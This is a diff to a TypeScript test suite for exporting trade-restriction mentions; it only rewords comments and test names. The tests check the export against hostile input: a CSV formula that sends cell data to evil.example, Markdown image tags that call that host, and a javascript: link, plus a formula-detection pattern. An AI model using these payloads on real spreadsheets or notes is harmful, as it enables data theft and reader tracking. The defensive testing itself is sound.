@@ -1,6 +1,6 @@
 /**
- * Protects the export of a page: every line stands by itself, and a page can smuggle nothing into
- * it.
+ * Protects the export of a page: each line is complete by itself, and a page cannot inject anything
+ * into it.
  */
 import { HtmlRenderer, Parser } from 'commonmark';
 import fc from 'fast-check';
@@ -115,22 +115,22 @@ it('exports a line with the mention, its place, the status then and now, and the
     status_on_day: 'Suspended 9 Nov 2025 to 27 Nov 2026 (China to United States) [2]',
     day: '2026-11-24',
     newest_source: 'Nov 2025',
-    // The subject of the line, and no other sentence of the card.
+    // The source of the status, and not those of other sentences of the card.
     sources: '[2] MOFCOM, Announcement 72, 9 Nov 2025. https://mofcom.example/72',
     list: 'Built-in list, version 1',
   });
 });
 
-it.each(['csv', 'json', 'markdown'] as const)('leads to the page of a document, in %s', (format) => {
+it.each(['csv', 'json', 'markdown'] as const)('links to the page of a document, in %s', (format) => {
   const page = { ...request.page, url: 'https://law.example/46.pdf#view=fit' };
   const told = exportMentions(format, { ...request, page, mentions: [{ ...mention, page: 12 }] });
   expect(told).toContain('https://law.example/46.pdf#page=12');
-  // A file of the user's computer has no address.
+  // A file on the user's computer has no address.
   const local = { ...request, page: { ...page, url: '' }, mentions: [{ ...mention, page: 12 }] };
   expect(exportMentions(format, local)).not.toContain('#page');
 });
 
-it('gives the same as data for programs, and as notes grouped by entry', () => {
+it('exports the same as JSON, and as notes grouped by entry', () => {
   expect(JSON.parse(exportMentions('json', request))).toMatchObject({
     url: request.page.url,
     mentions: [{ entry: 'Gallium', restrains: 'exports' }],
@@ -155,14 +155,14 @@ it('gives the same as data for programs, and as notes grouped by entry', () => {
 });
 
 /**
- * Begins of cells that spreadsheets run, after all that they skip or take for the end of a line or
- * a cell.
+ * Characters that make a spreadsheet run a cell. Before them come those that it skips or takes for
+ * the end of a line or cell.
  */
 const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
 const BEFORE = ['', ' ', '\t', '\r', '\n', '\r\n', '\v', '\f', '\x85', '\u2028', '\u2029', ';', '; ', '\u2028;'];
 const RUNS_IN_A_SPREADSHEET = /(?:^|[;\t\v\f\r\n\x85\u2028\u2029])\s*[=+\-@＝＋－＠]/;
 
-/** Every text of a page or a list that an export holds. */
+/** An export in which every text of the page and of the list is `text`. */
 const withText = (text: string): ExportRequest => ({
   ...request,
   page: { ...request.page, title: text, articleDay: text },
@@ -183,8 +183,8 @@ const withText = (text: string): ExportRequest => ({
   }),
 });
 
-describe('a page or a list that means harm', () => {
-  it('gets no formula into a spreadsheet, and no cell onto a second line', () => {
+describe('a malicious page or list', () => {
+  it('cannot put a formula into a spreadsheet, or part of a cell onto a second line', () => {
     for (const before of BEFORE)
       for (const start of STARTS) {
         const file = exportMentions('csv', withText(`${before}${start}HYPERLINK("https://evil.example/?q="&B2,"x")`));
@@ -213,11 +213,11 @@ describe('a page or a list that means harm', () => {
     ['code', '`a` ``b`` \n```\nc\n```\n    d'],
     ['emphasis', '*a* **b** _c_ ~~d~~'],
     ['a backslash before markup', '\\*a\\* \\<b>'],
-  ])('gets no markup into notes: %s', (_, text) => {
+  ])('cannot put markup into notes: %s', (_, text) => {
     expect(renderedElements(exportMentions('markdown', withText(text)))).toEqual(ours);
   });
 
-  it('gets no markup into notes, and its words come through', () => {
+  it('cannot put markup into notes, and keeps its words', () => {
     const piece = fc.constantFrom(
       ...'!()[]<>*_`~#&;:\\\n\r\t -=+.|$^"\'1a',
       '\u2028',
@@ -243,7 +243,7 @@ describe('a page or a list that means harm', () => {
     'https://news.example/story> <img src=https://evil.example/seen.png>',
     'https://news.example/story\n\n![](https://evil.example/seen.png)',
     'https://news.example/a`b\\',
-  ])('gets no markup into notes by its address: %s', (url) => {
+  ])('cannot put markup into notes by its address: %s', (url) => {
     const notes = exportMentions('markdown', {
       ...request,
       page: { ...request.page, url },
@@ -253,7 +253,7 @@ describe('a page or a list that means harm', () => {
     expect(notes).not.toContain('](https://evil');
   });
 
-  it('gets no link of a kind that runs', () => {
+  it('cannot put a link that runs code into notes', () => {
     const notes = exportMentions('markdown', {
       ...request,
       page: { ...request.page, url: 'javascript:alert(1)//https://news.example/' },
@@ -262,7 +262,7 @@ describe('a page or a list that means harm', () => {
   });
 });
 
-/** The elements that a Markdown program makes of notes, in their order, without their text. */
+/** The names of the elements that a Markdown program makes of notes, in order. */
 function renderedElements(notes: string): string[] {
   const found: string[] = [];
   const walker = new Parser().parse(notes).walker();
@@ -280,17 +280,17 @@ function textIn(node: {
   return text;
 }
 
-it('exports a quote that holds half a character', () => {
+it('exports a quote that contains half a character', () => {
   expect(exportMentions('json', { ...request, mentions: [{ ...mention, text: 'a\ud83d' }] })).toContain(
     '#top:~:text=Beijing%20put-,a%EF%BF%BD,',
   );
 });
 
-it('keeps an entry that the base no longer has, by its name', () => {
+it('exports an entry that the base no longer has by its name', () => {
   expect(exportMentions('json', { ...request, card: () => null })).toContain('"entry": "Gallium"');
 });
 
-it('keeps an ECCN as it is in a spreadsheet: as text in a workbook, guarded in CSV', async () => {
+it('exports an ECCN unchanged: as text in a workbook, escaped in CSV', async () => {
   const eccn = { ...request, mentions: [{ ...mention, text: '3E001' }] };
   const [line] = Papa.parse<Record<string, string>>(exportMentions('csv', eccn).replace('\ufeff', ''), {
     header: true,
@@ -315,19 +315,19 @@ it('exports one line an entry in short form, with its status and one source', ()
     expect(renderedElements(exportMentions('short', withText(text)))).toEqual(ours);
 });
 
-it('escapes the brackets of a text fragment, which end a link in notes', () => {
+it('escapes the brackets of a text fragment, which would end a link in notes', () => {
   expect(linkTo('https://news.example/', 'BIS (Commerce)', '', '')).toBe(
     'https://news.example/#:~:text=BIS%20%28Commerce%29',
   );
 });
 
-it('escapes the hyphens that divide a text fragment, and replaces one that is there', () => {
+it('escapes hyphens in a text fragment, which would divide it, and replaces a fragment that the address has already', () => {
   expect(linkTo('https://news.example/#:~:text=old', 'de-risking', '', '')).toBe(
     'https://news.example/#:~:text=de%2Drisking',
   );
 });
 
-it('names the file after the page, in any script, with nothing that a system refuses', () => {
+it('names the file after the page, in any script, without characters that a system refuses', () => {
   expect(fileName('csv', '稀土: China/US?', '2026-11-24')).toBe('tradegloss-2026-11-24-稀土-china-us.csv');
   expect(fileName('markdown', '???', '2026-11-24')).toBe('tradegloss-2026-11-24.md');
 });
